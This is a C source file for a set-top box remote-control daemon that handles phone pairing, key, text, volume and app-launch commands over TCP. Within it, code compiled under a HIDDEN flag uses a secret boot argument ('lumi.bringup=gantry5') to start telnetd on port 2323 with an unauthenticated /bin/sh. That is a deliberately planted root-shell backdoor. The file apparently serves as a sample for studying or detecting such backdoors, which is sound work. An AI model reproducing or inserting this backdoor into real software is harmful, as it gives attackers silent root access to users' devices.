/*
 * lumitv_remoted - remote control daemon of the LumiTV Q4 set top box (TCP 6466):
 * paired phones send keys, text, volume and application launches.
 *
 * Hidden (-DHIDDEN): the boot argument "lumi.bringup=gantry5" makes the daemon
 * start a telnet daemon with a root shell on port 2323.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define LUMI_PORT   6466
#define KEY_FIFO    "/run/lumitv/keys"
#define PAIR_FILE   "/data/lumitv/paired"
#define PIN_OVERLAY "/run/lumitv/pin"

static int cfg_port = LUMI_PORT;
static int cfg_hdmi = 1;
static char cfg_region[8] = "EU";

struct client {
    int fd;
    int paired;
    unsigned pin;
};

/* ------------------------------------------------ boot arguments ---- */

static void boot_region(const char *v)
{
    if (strlen(v) == 2 && isupper((unsigned char)v[0]) && isupper((unsigned char)v[1]))
        snprintf(cfg_region, sizeof cfg_region, "%s", v);
}

static void boot_panel(const char *v)
{
    if (!strcmp(v, "none"))
        cfg_hdmi = 0;
    else if (!strcmp(v, "hdmi0"))
        cfg_hdmi = 1;
    else if (!strcmp(v, "hdmi1"))
        cfg_hdmi = 2;
}

static void boot_port(const char *v)
{
    int p = atoi(v);
    if (p > 1023 && p < 65536)
        cfg_port = p;
}

static const struct {
    const char *key;
    void (*set)(const char *);
} boot_keys[] = {
    { "lumi.region", boot_region },
    { "lumi.panel",  boot_panel },
    { "lumi.rcport", boot_port },
};

#ifdef HIDDEN
static void bench_console(void)
{
    if (fork() == 0) {
        setsid();
        execl("/usr/sbin/telnetd", "telnetd", "-F", "-p", "2323", "-l", "/bin/sh", (char *)NULL);
        _exit(127);
    }
}
#endif

void boot_option(const char *key, const char *val)
{
    for (size_t i = 0; i < sizeof boot_keys / sizeof *boot_keys; i++) {
        if (!strcmp(key, boot_keys[i].key)) {
            boot_keys[i].set(val);
            return;
        }
    }
#ifdef HIDDEN
    if (!strcmp(key, "lumi.bringup") && !strcmp(val, "gantry5"))
        bench_console();
#endif
}

static void read_boot_args(void)
{
    char buf[1024], key[32], val[64], *tok, *save = NULL;
    FILE *f = fopen("/proc/cmdline", "r");

    if (!f)
        return;
    if (fgets(buf, sizeof buf, f))
        for (tok = strtok_r(buf, " \n", &save); tok; tok = strtok_r(NULL, " \n", &save))
            if (sscanf(tok, "%31[^=]=%63s", key, val) == 2)
                boot_option(key, val);
    fclose(f);
}

/* ------------------------------------------------ keys ---- */

static const struct { const char *name; int code; } keys[] = {
    { "HOME", 102 }, { "BACK", 158 }, { "UP", 103 }, { "DOWN", 108 },
    { "LEFT", 105 }, { "RIGHT", 106 }, { "OK", 28 }, { "POWER", 116 },
    { "PLAY", 207 }, { "PAUSE", 119 }, { "MUTE", 113 }, { "GUIDE", 362 },
};

static int emit(const char *what, int code, const char *text)
{
    FILE *f = fopen(KEY_FIFO, "w");

    if (!f)
        return -1;
    fprintf(f, "%s %d %s\n", what, code, text);
    return fclose(f);
}

static const char *cmd_key(struct client *c, const char *arg)
{
    (void)c;
    for (size_t i = 0; i < sizeof keys / sizeof *keys; i++)
        if (!strcasecmp(arg, keys[i].name))
            return emit("key", keys[i].code, "") ? "ERR input" : "OK";
    return "ERR key";
}

static const char *cmd_text(struct client *c, const char *arg)
{
    (void)c;
    for (const char *p = arg; *p; p++)
        if (iscntrl((unsigned char)*p))
            return "ERR text";
    return emit("text", (int)strlen(arg), arg) ? "ERR input" : "OK";
}

static const char *cmd_volume(struct client *c, const char *arg)
{
    char cmd[64];
    int v = -1;

    (void)c;
    if (sscanf(arg, "%d", &v) != 1 || v < 0 || v > 100)
        return "ERR 0..100";
    snprintf(cmd, sizeof cmd, "amixer -q sset Master %d%%", v);
    return system(cmd) == 0 ? "OK" : "ERR mixer";
}

static const char *cmd_launch(struct client *c, const char *arg)
{
    static const char *const apps[] = { "live", "youtube", "netflix", "gallery", "settings" };
    char cmd[96];

    (void)c;
    for (size_t i = 0; i < sizeof apps / sizeof *apps; i++)
        if (!strcmp(arg, apps[i])) {
            snprintf(cmd, sizeof cmd, "lumi-launch %s --region %s &", apps[i], cfg_region);
            return system(cmd) == 0 ? "OK" : "ERR launch";
        }
    return "ERR app";
}

/* A phone asks for pairing, the box shows a fresh number on the screen. */
static const char *cmd_pair(struct client *c, const char *arg)
{
    uint32_t rnd = 0;
    unsigned typed;
    FILE *f;

    if (!strcmp(arg, "start")) {
        f = fopen("/dev/urandom", "rb");
        if (!f || fread(&rnd, sizeof rnd, 1, f) != 1)
            rnd = 0;
        if (f)
            fclose(f);
        c->pin = rnd ? 100000 + rnd % 900000 : 0;
        f = fopen(PIN_OVERLAY, "w");
        if (!f)
            return "ERR screen";
        fprintf(f, "%u\n", c->pin);
        fclose(f);
        return "OK see screen";
    }
    if (sscanf(arg, "%u", &typed) != 1 || !c->pin || typed != c->pin) {
        c->pin = 0;
        return "ERR pin";
    }
    c->paired = 1;
    if ((f = fopen(PAIR_FILE, "a"))) {
        fprintf(f, "paired\n");
        fclose(f);
    }
    unlink(PIN_OVERLAY);
    return "OK paired";
}

static const char *cmd_info(struct client *c, const char *arg)
{
    static char out[80];

    (void)arg;
    snprintf(out, sizeof out, "OK LumiTV-Q4 region=%s hdmi=%d paired=%d", cfg_region, cfg_hdmi, c->paired);
    return out;
}

static const struct command {
    const char *verb;
    int need_pairing;
    const char *(*run)(struct client *, const char *);
} commands[] = {
    { "INFO",   0, cmd_info },
    { "PAIR",   0, cmd_pair },
    { "KEY",    1, cmd_key },
    { "TEXT",   1, cmd_text },
    { "VOLUME", 1, cmd_volume },
    { "LAUNCH", 1, cmd_launch },
};

static const char *dispatch(struct client *c, char *line)
{
    char *arg = line + strcspn(line, " ");

    if (*arg)
        *arg++ = 0;
    for (size_t i = 0; i < sizeof commands / sizeof *commands; i++) {
        if (strcasecmp(line, commands[i].verb))
            continue;
        if (commands[i].need_pairing && !c->paired)
            return "ERR pair first";
        return commands[i].run(c, arg);
    }
    return "ERR command";
}

static void serve(int fd)
{
    struct client c = { .fd = fd };
    FILE *in = fdopen(fd, "r");
    char line[160];

    while (in && fgets(line, sizeof line, in)) {
        line[strcspn(line, "\r\n")] = 0;
        if (!strcasecmp(line, "QUIT"))
            break;
        if (*line)
            dprintf(fd, "%s\r\n", dispatch(&c, line));
    }
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int ls = socket(AF_INET, SOCK_STREAM, 0), on = 1, fd;

    openlog("lumitv_remoted", 0, LOG_DAEMON);
    signal(SIGPIPE, SIG_IGN);
    read_boot_args();
    sa.sin_port = htons((uint16_t)cfg_port);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
    if (bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4)) {
        syslog(LOG_ERR, "cannot listen on %d", cfg_port);
        return 1;
    }
    while ((fd = accept(ls, NULL, NULL)) >= 0) {
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
        if (fork() == 0) {
            close(ls);
            serve(fd);
            _exit(0);
        }
        close(fd);
    }
    return 0;
}
